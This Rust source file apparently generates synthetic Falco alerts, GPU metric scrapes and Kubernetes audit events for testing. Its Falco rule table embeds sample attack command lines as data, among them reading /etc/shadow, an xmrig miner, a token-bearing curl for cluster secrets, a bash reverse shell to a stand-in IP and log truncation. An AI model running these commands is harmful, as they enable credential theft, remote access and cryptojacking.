        desc: "Sensitive file opened for reading by non-trusted program",
        tags: &[
            "T1555",
            "container",
            "filesystem",
            "host",
            "maturity_stable",
            "mitre_credential_access",
        ],
        evt_type: "openat",
        procs: &[
            (
                "cat",
                "/usr/bin/cat",
                "cat /etc/shadow",
                "bash",
                Some("/etc/shadow"),
            ),
            (
                "python3",
                "/usr/bin/python3.11",
                "python3 -c import crypt; print(open('/etc/shadow').read())",
                "bash",
                Some("/etc/shadow"),
            ),
        ],
    },
    Rule {
        name: "Drop and execute new binary in container",
        priority: "Critical",
        desc: "Executing binary not part of base image",
        tags: &[
            "PCI_DSS_11.5.1",
            "TA0003",
            "container",
            "maturity_stable",
            "mitre_persistence",
            "process",
        ],
        evt_type: "execve",
        procs: &[
            (
                "xmrig",
                "/tmp/.cache/xmrig",
                "xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 4A9xH --cuda",
                "bash",
                None,
            ),
            (
                "kworkerd",
                "/dev/shm/kworkerd",
                "/dev/shm/kworkerd --donate-level 1",
                "sh",
                None,
            ),
        ],
    },
    Rule {
        name: "Detect outbound connections to common miner pool ports",
        priority: "Critical",
        desc: "Outbound connection to IP/Port flagged by https://cryptoioc.ch",
        tags: &[
            "T1496",
            "container",
            "host",
            "maturity_sandbox",
            "mitre_impact",
            "network",
        ],
        evt_type: "connect",
        procs: &[(
            "xmrig",
            "/tmp/.cache/xmrig",
            "xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 4A9xH --cuda",
            "bash",
            Some("10.42.3.17:48812->203.0.113.50:4444"),
        )],
    },
    Rule {
        name: "Contact K8S API Server From Container",
        priority: "Notice",
        desc: "Unexpected connection to K8s API Server from container",
        tags: &[
            "T1565",
            "container",
            "k8s",
            "maturity_stable",
            "mitre_discovery",
            "network",
        ],
        evt_type: "connect",
        procs: &[(
            "curl",
            "/usr/bin/curl",
            "curl -sk -H \"Authorization: Bearer $TOKEN\" https://10.96.0.1/api/v1/namespaces/kube-system/secrets",
            "bash",
            Some("10.42.3.17:51234->10.96.0.1:443"),
        )],
    },
    Rule {
        name: "Redirect STDOUT/STDIN to Network Connection in Container",
        priority: "Notice",
        desc: "Redirect stdout/stdin to network connection",
        tags: &[
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "network",
            "process",
        ],
        evt_type: "dup2",
        procs: &[(
            "bash",
            "/usr/bin/bash",
            "bash -c bash -i >& /dev/tcp/198.51.100.7/9001 0>&1",
            "python3",
            Some("10.42.3.17:40022->198.51.100.7:9001"),
        )],
    },
    Rule {
        name: "Clear Log Activities",
        priority: "Warning",
        desc: "Log files were tampered",
        tags: &[
            "NIST_800-53_AU-10",
            "T1070",
            "container",
            "filesystem",
            "host",
            "maturity_stable",
            "mitre_defense_evasion",
        ],
        evt_type: "openat",
        procs: &[(
            "truncate",
            "/usr/bin/truncate",
            "truncate -s0 /var/log/nvidia-installer.log",
            "bash",
            Some("/var/log/nvidia-installer.log"),
        )],
    },
];

/// Falco JSON alerts, one per line.
pub fn falco_alerts(c: &Cluster, seed: u64, n: usize) -> Input {
    let mut r = Rng::new(seed);
    let mut out = Vec::with_capacity(n * 1100);
    let mut chunks = Vec::new();
    let mut chunk_start = 0;
    let mut t = EPOCH_NS;
    for i in 0..n {
        if i > 0 && i % BATCH_ROWS == 0 {
            chunks.push(chunk_start..out.len());
            chunk_start = out.len();
        }
        t += r.range(1_000_000, 80_000_000) as i64;
        let pod = r.pick(&c.pods);
        let node = &c.nodes[pod.node];
        let rule = r.pick(RULES);
        let (proc_name, exepath, cmdline, pname, fd) = *r.pick(rule.procs);
        let (user, uid) = *r.pick(&[
            ("root", 0),
            ("root", 0),
            ("jovyan", 1000),
            ("nobody", 65534),
        ]);
        let time = format_rfc3339_nanos(t);
        let loginuid: i64 = if r.chance(0.8) { -1 } else { 1000 };
        let tty = if rule.evt_type == "execve" && r.chance(0.5) {
            34816
        } else {
            0
        };
        let fd_text = fd.unwrap_or("<NA>");
        let output = format!(
            "{}+0000: {} {} (user={user} process={proc_name} parent={pname} command={cmdline} file={fd_text} evt_type={} container_id={} container_name={} container_image_repository={} container_image_tag={} k8s_pod_name={} k8s_ns_name={})",
            &time[..29],
            rule.priority,
            rule.desc,
            rule.evt_type,
            pod.container_id,
            pod.container,
            pod.repo,
            pod.tag,
            pod.name,
            pod.namespace,
        );
        let tags: Vec<String> = rule.tags.iter().map(|t| q(t)).collect();
        let uuid = if r.chance(0.5) {
            format!(",\"uuid\":{}", q(&r.uuid()))
        } else {
            String::new()
        };
        let fd_json = fd.map_or("null".to_string(), q);
        let fields = format!(
            concat!(
                "{{\"container.id\":{},\"container.image.repository\":{},\"container.image.tag\":{},",
                "\"container.name\":{},\"container.privileged\":{},\"evt.res\":\"SUCCESS\",\"evt.time\":{},",
                "\"evt.type\":{},\"fd.name\":{},\"k8s.ns.name\":{},\"k8s.pod.name\":{},",
                "\"proc.aname[2]\":{},\"proc.cmdline\":{},\"proc.exepath\":{},\"proc.name\":{},",
                "\"proc.pid\":{},\"proc.pname\":{},\"proc.tty\":{},\"user.loginuid\":{},",
                "\"user.name\":{},\"user.uid\":{}}}"
            ),
            q(&pod.container_id),
            q(pod.repo),
            q(pod.tag),
            q(&pod.container),
            r.chance(0.1),
            t,
            q(rule.evt_type),
            fd_json,
            q(&pod.namespace),
            q(&pod.name),
            q(r.pick::<&str>(&["containerd-shim", "runc", "tini"])),
            q(cmdline),
            q(exepath),
            q(proc_name),
            r.range(2, 4_000_000),
            q(pname),
            tty,
            loginuid,
            q(user),
            uid,
        );
        let line = format!(
            "{{\"hostname\":{},\"output\":{},\"priority\":{},\"rule\":{},\"source\":\"syscall\",\"tags\":[{}],\"time\":{}{uuid},\"output_fields\":{fields}}}\n",
            q(&node.name),
            q(&output),
            q(rule.priority),
            q(rule.name),
            tags.join(","),
            q(&time),
        );
        out.extend_from_slice(line.as_bytes());
    }
    chunks.push(chunk_start..out.len());
    Input {
        bytes: out,
        records: n,
        chunks,
    }
}

// --- DCGM --------------------------------------------------------------------------------------

/// The 25 counters (dcgm-exporter's default-counters.csv), with their help text and type.
const COUNTERS: [(&str, &str, &str); 25] = [
    (
        "DCGM_FI_DEV_SM_CLOCK",
        "gauge",
        "SM clock frequency (in MHz).",
    ),
    (
        "DCGM_FI_DEV_MEM_CLOCK",
        "gauge",
        "Memory clock frequency (in MHz).",
    ),
    (
        "DCGM_FI_DEV_MEMORY_TEMP",
        "gauge",
        "Memory temperature (in C).",
    ),
    ("DCGM_FI_DEV_GPU_TEMP", "gauge", "GPU temperature (in C)."),
    ("DCGM_FI_DEV_POWER_USAGE", "gauge", "Power draw (in W)."),
    (
        "DCGM_FI_DEV_TOTAL_ENERGY_CONSUMPTION",
        "counter",
        "Total energy consumption since boot (in mJ).",
    ),
    (
        "DCGM_FI_DEV_PCIE_REPLAY_COUNTER",
        "counter",
        "Total number of PCIe retries.",
    ),
    ("DCGM_FI_DEV_GPU_UTIL", "gauge", "GPU utilization (in %)."),
    (
        "DCGM_FI_DEV_MEM_COPY_UTIL",
        "gauge",
        "Memory utilization (in %).",
    ),
    (
        "DCGM_FI_DEV_ENC_UTIL",
        "gauge",
        "Encoder utilization (in %).",
    ),
    (
        "DCGM_FI_DEV_DEC_UTIL",
        "gauge",
        "Decoder utilization (in %).",
    ),
    (
        "DCGM_FI_DEV_XID_ERRORS",
        "gauge",
        "Value of the last XID error encountered.",
    ),
    (
        "DCGM_FI_DEV_FB_FREE",
        "gauge",
        "Framebuffer memory free (in MiB).",
    ),
    (
        "DCGM_FI_DEV_FB_USED",
        "gauge",
        "Framebuffer memory used (in MiB).",
    ),
    (
        "DCGM_FI_DEV_FB_RESERVED",
        "gauge",
        "Framebuffer memory reserved (in MiB).",
    ),
    (
        "DCGM_FI_DEV_NVLINK_BANDWIDTH_TOTAL",
        "counter",
        "Total number of NVLink bandwidth counters for all lanes.",
    ),
    (
        "DCGM_FI_DEV_UNCORRECTABLE_REMAPPED_ROWS",
        "counter",
        "Number of remapped rows for uncorrectable errors",
    ),
    (
        "DCGM_FI_DEV_CORRECTABLE_REMAPPED_ROWS",
        "counter",
        "Number of remapped rows for correctable errors",
    ),
    (
        "DCGM_FI_DEV_ROW_REMAP_FAILURE",
        "gauge",
        "Whether remapping of rows has failed",
    ),
    (
        "DCGM_FI_DEV_VGPU_LICENSE_STATUS",
        "gauge",
        "vGPU License status",
    ),
    (
        "DCGM_FI_PROF_GR_ENGINE_ACTIVE",
        "gauge",
        "Ratio of time the graphics engine is active.",
    ),
    (
        "DCGM_FI_PROF_PIPE_TENSOR_ACTIVE",
        "gauge",
        "Ratio of cycles the tensor (HMMA) pipe is active.",
    ),
    (
        "DCGM_FI_PROF_DRAM_ACTIVE",
        "gauge",
        "Ratio of cycles the device memory interface is active sending or receiving data.",
    ),
    (
        "DCGM_FI_PROF_PCIE_TX_BYTES",
        "gauge",
        "The rate of data transmitted over the PCIe bus - including both protocol headers and data payloads - in bytes per second.",
    ),
    (
        "DCGM_FI_PROF_PCIE_RX_BYTES",
        "gauge",
        "The rate of data received over the PCIe bus - including both protocol headers and data payloads - in bytes per second.",
    ),
];

/// One dcgm-exporter scrape per node, concatenated; `chunks` are the scrapes.
pub fn dcgm_scrapes(c: &Cluster, seed: u64) -> Input {
    let mut r = Rng::new(seed);
    let mut out = String::with_capacity(c.nodes.len() * GPUS_PER_NODE * 25 * 330);
    let mut chunks = Vec::with_capacity(c.nodes.len());
    let mut records = 0;
    for node in &c.nodes {
        let start = out.len();
        let labels: Vec<String> = node
            .gpus
            .iter()
            .enumerate()
            .map(|(g, gpu)| {
                let mut l = format!(
                    "gpu=\"{g}\",UUID=\"{}\",pci_bus_id=\"{}\",device=\"nvidia{g}\",modelName=\"{}\",Hostname=\"{}\",DCGM_FI_DRIVER_VERSION=\"560.35.03\"",
                    gpu.uuid, gpu.pci, node.model, node.name
                );
                match gpu.pod.map(|p| &c.pods[p]) {
                    Some(p) => l.push_str(&format!(
                        ",container=\"{}\",namespace=\"{}\",pod=\"{}\"",
                        p.container, p.namespace, p.name
                    )),
                    None if gpu.empty_labels => l.push_str(",container=\"\",namespace=\"\",pod=\"\""),
                    None => {}
                }
                l
            })
            .collect();
        let busy: Vec<f64> = node
            .gpus
            .iter()
            .map(|g| {
                if g.pod.is_some() {
                    0.3 + 0.7 * (r.below(1000) as f64 / 1000.0)
                } else {
                    0.0
                }
            })
            .collect();
        for (name, kind, help) in COUNTERS {
            out.push_str(&format!("# HELP {name} {help}\n# TYPE {name} {kind}\n"));
            for (g, l) in labels.iter().enumerate() {
                let u = busy[g];
                let value = match name {
                    "DCGM_FI_DEV_SM_CLOCK" => {
                        format!("{}", if u > 0.0 { r.range(1410, 1980) } else { 210 })
                    }
                    "DCGM_FI_DEV_MEM_CLOCK" => format!("{}", if u > 0.0 { 2619 } else { 405 }),
                    "DCGM_FI_DEV_MEMORY_TEMP" | "DCGM_FI_DEV_GPU_TEMP" => {
                        format!("{}", 30 + (u * 45.0) as u64 + r.below(4))
                    }
                    "DCGM_FI_DEV_POWER_USAGE" => {
                        format!("{:.6}", 60.0 + u * 600.0 + r.below(1000) as f64 / 997.0)
                    }
                    "DCGM_FI_DEV_TOTAL_ENERGY_CONSUMPTION" => {
                        format!("{}", r.range(1_000_000_000, 90_000_000_000))
                    }
                    "DCGM_FI_DEV_GPU_UTIL" | "DCGM_FI_DEV_MEM_COPY_UTIL" => {
                        format!("{}", (u * 100.0) as u64)
                    }
                    "DCGM_FI_DEV_FB_USED" => format!("{}", (u * 80_000.0) as u64),
                    "DCGM_FI_DEV_FB_FREE" => format!("{}", 81_559 - (u * 80_000.0) as u64),
                    "DCGM_FI_DEV_FB_RESERVED" => "520".to_string(),
                    "DCGM_FI_DEV_NVLINK_BANDWIDTH_TOTAL" => format!("{}", r.range(0, 1 << 40)),
                    "DCGM_FI_PROF_GR_ENGINE_ACTIVE"
                    | "DCGM_FI_PROF_PIPE_TENSOR_ACTIVE"
                    | "DCGM_FI_PROF_DRAM_ACTIVE" => {
                        format!("{:.6}", u * (r.below(1000) as f64 / 1000.0))
                    }
                    "DCGM_FI_PROF_PCIE_TX_BYTES" | "DCGM_FI_PROF_PCIE_RX_BYTES" => {
                        format!("{}", r.range(100_000, 900_000_000))
                    }
                    _ => "0".to_string(),
                };
                out.push_str(name);
                out.push('{');
                out.push_str(l);
                out.push_str("} ");
                out.push_str(&value);
                out.push('\n');
                records += 1;
            }
        }
        chunks.push(start..out.len());
    }
    Input {
        bytes: out.into_bytes(),
        records,
        chunks,
    }
}

// --- Kubernetes audit ----------------------------------------------------------------------------

/// Audit events as the log backend writes them, one per line.
pub fn audit_events(c: &Cluster, seed: u64, n: usize) -> Input {
    let mut r = Rng::new(seed);
    let mut out = Vec::with_capacity(n * 2200);
    let mut chunks = Vec::new();
    let mut chunk_start = 0;
    let mut t = EPOCH_NS;
    let gpu_pods: Vec<&Pod> = c.pods.iter().filter(|p| !p.gpus.is_empty()).collect();
    for i in 0..n {
        if i > 0 && i % BATCH_ROWS == 0 {
            chunks.push(chunk_start..out.len());
            chunk_start = out.len();
        }
        t += r.range(100_000, 12_000_000) as i64;
        let received = format_rfc3339_nanos(t)[..26].to_string() + "Z";
        let staged =
            format_rfc3339_nanos(t + r.range(200_000, 40_000_000) as i64)[..26].to_string() + "Z";
        let roll = r.below(100);
        let line = if roll < 80 {
            metadata_event(&mut r, c, &received, &staged)
        } else if roll < 95 {
            let pod = r_pick_pod(&mut r, &gpu_pods);
            pod_create(&mut r, pod, &received, &staged)
        } else {
            let pod = r_pick_pod(&mut r, &gpu_pods);
            pod_binding(&mut r, pod, c, &received, &staged)
        };
        out.extend_from_slice(line.as_bytes());
        out.push(b'\n');
    }
    chunks.push(chunk_start..out.len());
    Input {
        bytes: out,
        records: n,
        chunks,
    }
}

fn r_pick_pod<'a>(r: &mut Rng, pods: &[&'a Pod]) -> &'a Pod {
    pods[r.below(pods.len() as u64) as usize]
}

fn metadata_event(r: &mut Rng, c: &Cluster, received: &str, staged: &str) -> String {
    let node = r.pick(&c.nodes);
    let (resource, group, namespace, name, verb, user, groups, agent) = match r.below(6) {
        0 | 1 => (
            "leases",
            "coordination.k8s.io",
            "kube-node-lease",
            node.name.clone(),
            *r.pick(&["get", "update"]),
            format!("system:node:{}", node.name),
            r#"["system:nodes","system:authenticated"]"#,
            "kubelet/v1.30.4 (linux/amd64) kubernetes/a51b3b7",
        ),
        2 => (
            "leases",
            "coordination.k8s.io",
            "kube-system",
            r.pick(&[
                "kube-controller-manager",
                "kube-scheduler",
                "nvidia-gpu-operator",
            ])
            .to_string(),
            *r.pick(&["get", "update"]),
            "system:kube-controller-manager".to_string(),
            r#"["system:authenticated"]"#,
            "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/a51b3b7/leader-election",
        ),
        _ => {
            let pod = r.pick(&c.pods);
            (
                "configmaps",
                "",
                pod.namespace.as_str(),
                format!("{}-config", pod.container),
                *r.pick(&["get", "list", "watch"]),
                format!("system:serviceaccount:{}:default", pod.namespace),
                r#"["system:serviceaccounts","system:serviceaccounts:ml-serving","system:authenticated"]"#,
                "Go-http-client/2.0",
            )
        }
    };
    let (uri, obj_name) = match verb {
        "list" | "watch" => (
            format!(
                "/api/v1/namespaces/{namespace}/{resource}?{}resourceVersion={}&timeout=7m39s",
                if verb == "watch" {
                    "allowWatchBookmarks=true&watch=true&"
                } else {
                    ""
                },
                r.range(1_000_000, 9_000_000)
            ),
            String::new(),
        ),
        _ if group.is_empty() => (
            format!("/api/v1/namespaces/{namespace}/{resource}/{name}"),
            format!(",\"name\":{}", q(&name)),
        ),
        _ => (
            format!("/apis/{group}/v1/namespaces/{namespace}/{resource}/{name}"),
            format!(",\"name\":{}", q(&name)),
        ),
    };
    let stage = if verb == "watch" {
        "ResponseStarted"
    } else {
        "ResponseComplete"
    };
    let reason = if user.starts_with("system:node:") {
        String::new()
    } else {
        format!(
            ",\"authorization.k8s.io/reason\":{}",
            q(&format!(
                "RBAC: allowed by RoleBinding \"{name}-reader/{namespace}\" of Role \"{name}-reader\" to ServiceAccount \"default/{namespace}\""
            ))
        )
    };
    format!(
        concat!(
            "{{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"Metadata\",\"auditID\":\"{}\",",
            "\"stage\":\"{}\",\"requestURI\":{},\"verb\":\"{}\",\"user\":{{\"username\":{},\"uid\":\"{}\",\"groups\":{},",
            "\"extra\":{{}}}},\"sourceIPs\":[\"{}\"],\"userAgent\":{},\"objectRef\":{{\"resource\":\"{}\",",
            "\"namespace\":{}{},\"apiGroup\":\"{}\",\"apiVersion\":\"v1\"}},\"responseStatus\":{{\"metadata\":{{}},\"code\":200}},",
            "\"requestReceivedTimestamp\":\"{}\",\"stageTimestamp\":\"{}\",",
            "\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\"{}}}}}"
        ),
        r.uuid(),
        stage,
        q(&uri),
        verb,
        q(&user),
        r.uuid(),
        groups,
        node.ip,
        q(agent),
        resource,
        q(namespace),
        obj_name,
        group,
        received,
        staged,
        reason,
    )
}

/// A GPU pod's manifest; `response`: as the API server returns it (uid, defaults, status).
fn pod_object(r: &mut Rng, p: &Pod, named: bool, response: bool, created: &str) -> String {
    let gpus = p.gpus.len().max(1);
    let generate = p.owner.as_deref().map(|o| format!("{o}-"));
    let mut meta = serde_json::Map::new();
    if named || response {
        meta.insert("name".into(), p.name.clone().into());
    }
    if let (Some(g), false) = (&generate, named) {
        meta.insert("generateName".into(), g.clone().into());
    }
    meta.insert("namespace".into(), p.namespace.clone().into());
    if response {
        meta.insert("uid".into(), p.uid.clone().into());
        meta.insert(
            "resourceVersion".into(),
            r.range(1_000_000, 99_999_999).to_string().into(),
        );
        meta.insert(
            "creationTimestamp".into(),
            created[..19].to_string().add_z().into(),
        );
    }
    let app = p.owner.clone().unwrap_or_else(|| p.name.clone());
    meta.insert(
        "labels".into(),
        serde_json::json!({
            "app.kubernetes.io/name": p.container,
            "app.kubernetes.io/instance": app,
            "app.kubernetes.io/component": match p.role { Role::Serving => "predictor", Role::Training => "worker", Role::Notebook => "notebook", _ => "job" },
            "pod-template-hash": r.hex(10),
        }),
    );
    meta.insert(
        "annotations".into(),
        serde_json::json!({
            "prometheus.io/scrape": "true",
            "prometheus.io/port": "8002",
            "kubectl.kubernetes.io/default-container": p.container,
        }),
    );
    if let Some(owner) = &p.owner {
        meta.insert(
            "ownerReferences".into(),
            serde_json::json!([{
                "apiVersion": "apps/v1",
                "kind": if named { "StatefulSet" } else { "ReplicaSet" },
                "name": owner,
                "uid": p.owner_uid,
                "controller": true,
                "blockOwnerDeletion": true
            }]),
        );
    }
    let mut container = serde_json::json!({
        "name": p.container,
        "image": format!("{}:{}", p.repo, p.tag),
        "args": ["--model", "/models/llama3", "--tensor-parallel-size", gpus.to_string(), "--port", "8000", "--max-model-len", "8192"],
        "ports": [{"name": "http", "containerPort": 8000, "protocol": "TCP"}, {"name": "metrics", "containerPort": 8002, "protocol": "TCP"}],
        "env": [
            {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"},
            {"name": "HF_HOME", "value": "/models/.cache"},
            {"name": "HUGGING_FACE_HUB_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf-token", "key": "token"}}},
            {"name": "POD_NAME", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.name"}}}
        ],
        "resources": {
            "limits": {"cpu": "16", "memory": "128Gi", "nvidia.com/gpu": gpus.to_string()},
            "requests": {"cpu": "8", "memory": "96Gi", "nvidia.com/gpu": gpus.to_string()}
        },
        "volumeMounts": [
            {"name": "models", "mountPath": "/models", "readOnly": true},
            {"name": "dshm", "mountPath": "/dev/shm"},
            {"name": "kube-api-access-x7k2p", "readOnly": true, "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}
        ],
        "readinessProbe": {"httpGet": {"path": "/health", "port": 8000, "scheme": "HTTP"}, "initialDelaySeconds": 30, "periodSeconds": 10},
        "imagePullPolicy": "IfNotPresent",
        "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}}
    });
    if response {
        container["terminationMessagePath"] = "/dev/termination-log".into();
        container["terminationMessagePolicy"] = "File".into();
    }
    let mut spec = serde_json::json!({
        "volumes": [
            {"name": "models", "persistentVolumeClaim": {"claimName": "model-store", "readOnly": true}},
            {"name": "dshm", "emptyDir": {"medium": "Memory", "sizeLimit": "16Gi"}}
        ],
        "containers": [container],
        "restartPolicy": "Always",
        "terminationGracePeriodSeconds": 30,
        "serviceAccountName": "default",
        "nodeSelector": {"nvidia.com/gpu.present": "true"},
        "tolerations": [
            {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}
        ],
        "priorityClassName": "gpu-inference"
    });
    if response {
        spec["dnsPolicy"] = "ClusterFirst".into();
        spec["schedulerName"] = "default-scheduler".into();
        spec["enableServiceLinks"] = true.into();
        spec["preemptionPolicy"] = "PreemptLowerPriority".into();
        spec["priority"] = 1_000_000.into();
        spec["securityContext"] = serde_json::json!({});
        spec["tolerations"]
            .as_array_mut()
            .expect("an array")
            .extend([
                serde_json::json!({"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}),
                serde_json::json!({"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}),
            ]);
    }
    let mut obj = serde_json::json!({"kind": "Pod", "apiVersion": "v1"});
    obj["metadata"] = meta.into();
    obj["spec"] = spec;
    obj["status"] = if response {
        serde_json::json!({"phase": "Pending", "qosClass": "Burstable"})
    } else {
        serde_json::json!({})
    };
    obj.to_string()
}

trait AddZ {
    fn add_z(self) -> String;
}

impl AddZ for String {
    fn add_z(mut self) -> String {
        self.push('Z');
        self
    }
}

fn pod_create(r: &mut Rng, p: &Pod, received: &str, staged: &str) -> String {
    // Controllers create with `generateName` (the name is only in the response); StatefulSets,
    // notebooks and users name the pod.
    let named = p.owner.is_none() || p.role == Role::Training || r.chance(0.3);
    let request = pod_object(r, p, named, false, staged);
    let response = pod_object(r, p, named, true, staged);
    let (user, groups) = match &p.owner {
        Some(_) if named => (
            "system:serviceaccount:kube-system:statefulset-controller",
            r#"["system:serviceaccounts","system:serviceaccounts:kube-system","system:authenticated"]"#,
        ),
        Some(_) => (
            "system:serviceaccount:kube-system:replicaset-controller",
            r#"["system:serviceaccounts","system:serviceaccounts:kube-system","system:authenticated"]"#,
        ),
        None => (
            "oidc:alice@example.com",
            r#"["oidc:ml-platform","system:authenticated"]"#,
        ),
    };
    let name = if named {
        format!(",\"name\":{}", q(&p.name))
    } else {
        String::new()
    };
    let uri = if named {
        format!("/api/v1/namespaces/{}/pods/{}", p.namespace, p.name)
    } else {
        format!("/api/v1/namespaces/{}/pods", p.namespace)
    };
    format!(
        concat!(
            "{{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"RequestResponse\",\"auditID\":\"{}\",",
            "\"stage\":\"ResponseComplete\",\"requestURI\":{},\"verb\":\"create\",\"user\":{{\"username\":\"{}\",",
            "\"uid\":\"{}\",\"groups\":{}}},\"sourceIPs\":[\"10.0.0.12\"],",
            "\"userAgent\":\"kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/a51b3b7/system:serviceaccount:kube-system:replicaset-controller\",",
            "\"objectRef\":{{\"resource\":\"pods\",\"namespace\":{}{},\"apiVersion\":\"v1\"}},",
            "\"responseStatus\":{{\"metadata\":{{}},\"code\":201}},\"requestObject\":{},\"responseObject\":{},",
            "\"requestReceivedTimestamp\":\"{}\",\"stageTimestamp\":\"{}\",",
            "\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding \\\"system:controller:replicaset-controller\\\" of ClusterRole \\\"system:controller:replicaset-controller\\\" to ServiceAccount \\\"replicaset-controller/kube-system\\\"\",",
            "\"pod-security.kubernetes.io/enforce-policy\":\"baseline:latest\"}}}}"
        ),
        r.uuid(),
        q(&uri),
        user,
        r.uuid(),
        groups,
        q(&p.namespace),
        name,
        request,
        response,
        received,
        staged,
    )
}

fn pod_binding(r: &mut Rng, p: &Pod, c: &Cluster, received: &str, staged: &str) -> String {
    let node = &c.nodes[p.node];
    format!(
        concat!(
            "{{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"RequestResponse\",\"auditID\":\"{}\",",
            "\"stage\":\"ResponseComplete\",\"requestURI\":\"/api/v1/namespaces/{}/pods/{}/binding\",\"verb\":\"create\",",
            "\"user\":{{\"username\":\"system:kube-scheduler\",\"uid\":\"{}\",\"groups\":[\"system:authenticated\"]}},",
            "\"sourceIPs\":[\"10.0.0.12\"],\"userAgent\":\"kube-scheduler/v1.30.4 (linux/amd64) kubernetes/a51b3b7/scheduler\",",
            "\"objectRef\":{{\"resource\":\"pods\",\"namespace\":\"{}\",\"name\":\"{}\",\"uid\":\"{}\",\"apiVersion\":\"v1\",\"subresource\":\"binding\"}},",
            "\"responseStatus\":{{\"metadata\":{{}},\"status\":\"Success\",\"code\":201}},",
            "\"requestObject\":{{\"kind\":\"Binding\",\"apiVersion\":\"v1\",\"metadata\":{{\"name\":\"{}\",\"namespace\":\"{}\",\"uid\":\"{}\"}},\"target\":{{\"kind\":\"Node\",\"name\":\"{}\"}}}},",
            "\"responseObject\":{{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"metadata\":{{}},\"status\":\"Success\",\"code\":201}},",
            "\"requestReceivedTimestamp\":\"{}\",\"stageTimestamp\":\"{}\",",
            "\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding \\\"system:kube-scheduler\\\" of ClusterRole \\\"system:kube-scheduler\\\" to User \\\"system:kube-scheduler\\\"\"}}}}"
        ),
        r.uuid(),
        p.namespace,
        p.name,
        r.uuid(),
        p.namespace,
        p.name,
        p.uid,
        p.name,
        p.namespace,
        p.uid,
        node.name,
        received,
        staged,
    )
}
